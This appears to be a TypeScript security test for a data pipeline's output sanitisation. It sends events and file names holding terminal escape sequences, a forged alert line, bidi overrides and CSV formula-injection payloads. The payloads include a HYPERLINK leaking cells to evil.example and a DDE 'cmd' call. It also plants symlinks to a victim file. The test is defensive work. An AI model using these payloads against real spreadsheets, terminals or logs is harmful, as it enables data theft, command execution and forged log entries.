// Texts that turn on who reads them: sequences that move a terminal's cursor or forge a line of ours, formulas for the
// spreadsheet that opens the CSV, links where a command writes its report. Sent as events, as names of files and as requests;
// then everything that people look at is looked at.

import { execFile } from 'node:child_process'
import { globSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { until } from '../../runtime/index.ts'
import { someEvent, type Ground } from './ground.ts'

const root = join(import.meta.dirname, '../..')
const commandMsMax = 60_000
const rowMsMax = 60_000
const outputBytesMax = 16 * 1024 * 1024
const forged = '\u001b]0;owned\u0007\u001b[31mRED\u001b[2J\r\nALERT fraud high: forged line\u009b1A\u202e'
const formulas = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+cmd|\'/C calc\'!A0', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1', ' =1+1', '\uff1d1+1', ';=1+1', '"=1+1']
/** What no line for people holds. */
const turning = /[\u0000-\u0009\u000b\u000c\u000e-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]|\r(?!\n)/

interface Ended { readonly code: number, readonly text: string }

export async function playShownText (ground: Ground): Promise<void> {
  const { line, tally, send } = ground
  const texts = [forged, ...formulas]
  const events = texts.map((title, i) => someEvent(`shown-${String(i).padStart(2, '0')}`, { title, user_id: `u${title}`, referrer: title }))
  const { status, text } = await send(line.gatewayUrl, '/v1/events', { method: 'POST', body: events })
  tally.check('texts of any kind are taken', status === 202 && text.includes(`"accepted":${texts.length}`), `${status} ${text.slice(0, 200)}`)
  const count = "select count(*) from firn.events where event_id like 'shown-%'"
  await until(async () => (await send(line.queryUrl, '/v1/query', { method: 'POST', body: { sql: count } })).text.replaceAll('\n', '').includes(`"rows":[["${texts.length}"]]`), rowMsMax)
  const sql = "select title, user_id, referrer from firn.events where event_id like 'shown-%' order by event_id"
  const shown: Record<string, Ended> = {
    'npm run sql': await command(ground, 'sql', sql),
    'an error of npm run sql': await command(ground, 'sql', `select * from "${forged}"`),
    'npm run export --format txt': await command(ground, 'export', 'firn.events', '--format', 'txt'),
    'the reports of ingest': await ingest(ground)
  }
  for (const [name, { text: output }] of Object.entries(shown)) {
    tally.check(`${name} shows no sequence`, !turning.test(output) && !/^ALERT fraud high: forged/m.test(output), JSON.stringify(turning.exec(output)?.[0] ?? ''))
  }
  const asked = await send(line.queryUrl, '/v1/query', { method: 'POST', body: { sql, format: 'csv' } })
  const sheets: Record<string, string> = {
    'npm run sql --csv': (await command(ground, 'sql', sql, '--csv')).text,
    'npm run export --format csv': (await command(ground, 'export', 'firn.events')).text,
    'the query service\'s CSV': asked.text
  }
  for (const [name, csv] of Object.entries(sheets)) {
    const wrong = cellsOf(csv).filter(cell => /^\s*[=+@\uff1d\uff0b\uff20]|^[\t\r]|^\s*-(?!\d+(\.\d+)?$)/.test(cell))
    tally.check(`${name} has no formula`, csv.includes('HYPERLINK') && wrong.length === 0, JSON.stringify(wrong.slice(0, 5)))
  }
  await forgeLines(ground)
}

/** What a request says comes back in errors and in the services' logs. */
async function forgeLines ({ line, tally, send }: Ground): Promise<void> {
  const body = { name: 'w', location: `file:///dev/null/${forged}`, schema: { 'type': 'struct', 'schema-id': 0, 'fields': [] } }
  await send(line.catalogUrl, '/v1/namespaces/firn/tables', { method: 'POST', body })
  await send(line.catalogUrl, '/v1/namespaces', { method: 'POST', body: { namespace: [forged], properties: { [forged]: forged } } })
  await send(line.catalogUrl, `/v1/namespaces/${encodeURIComponent(forged)}/tables/${encodeURIComponent(forged)}`)
  await send(line.gatewayUrl, `/v1/${encodeURIComponent(forged)}`, { method: 'POST', body: forged })
  await send(line.gatewayUrl, '/v1/events', { method: 'POST', body: { event_id: forged, event_type: forged, timestamp: forged } })
  await send(line.queryUrl, '/v1/query', { method: 'POST', body: { sql: `select '${forged}' from "${forged}"`, id: 'forged' } })
  const terminal = line.printed()
  tally.check('the terminal of npm start shows no sequence', !turning.test(terminal) && !/^ALERT fraud high: forged/m.test(terminal), JSON.stringify(turning.exec(terminal)?.[0] ?? ''))
  const logs = globSync('logs/*.log', { cwd: line.dataDir }).map(file => readFileSync(join(line.dataDir, file), 'utf8'))
  tally.check('the logs hold no sequence and no forged line', logs.length > 0 && logs.every(log => !turning.test(log) && !/^ALERT fraud/m.test(log)), `${logs.length} logs`)
}

/** A folder whose reports are links to somebody else's file, one of its names a sequence. */
async function ingest (ground: Ground): Promise<Ended> {
  const { line, victimDir, tally } = ground
  const inbox = join(line.dataDir, '..', 'inbox')
  mkdirSync(inbox)
  const lines = `${JSON.stringify(someEvent('ingested-1'))}\n${forged}\n{"event_id":""}\n`
  for (const name of ['a.ndjson', 'b\u001b[2Jb.ndjson']) {
    writeFileSync(join(inbox, name), lines)
    for (const end of ['.rejected.ndjson', '.rejected.ndjson.part', '.rejected.ndjson.tmp']) symlinkSync(join(victimDir, 'precious.txt'), join(inbox, name + end))
  }
  const ended = await command(ground, 'ingest', inbox)
  tally.check('ingest ends with a sentence', ended.text.length > 0 && !ended.text.includes('    at '), `exit code ${ended.code}`)
  return ended
}

async function command ({ line }: Ground, task: string, ...words: string[]): Promise<Ended> {
  const ground = Object.fromEntries(Object.entries(process.env).filter(([name]) => !name.startsWith('FIRN_')))
  const env = { ...ground, FIRN_DATA_DIR: line.dataDir, FIRN_CATALOG_URL: line.catalogUrl }
  return await new Promise(resolve => {
    execFile(process.execPath, [join(root, 'start.mjs'), task, ...words], { cwd: root, env, timeout: commandMsMax, maxBuffer: outputBytesMax }, (error, stdout, stderr) => {
      resolve({ code: error === null ? 0 : Number(error.code ?? -1), text: stdout + stderr })
    })
  })
}

/** The cells of a CSV, without their quotes. */
function cellsOf (csv: string): string[] {
  return [...csv.matchAll(/(?:^|,|\n)(?:"((?:[^"]|"")*)"|([^",\n]*))/g)].map(([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '').map(cell => cell.replace(/\r$/, ''))
}
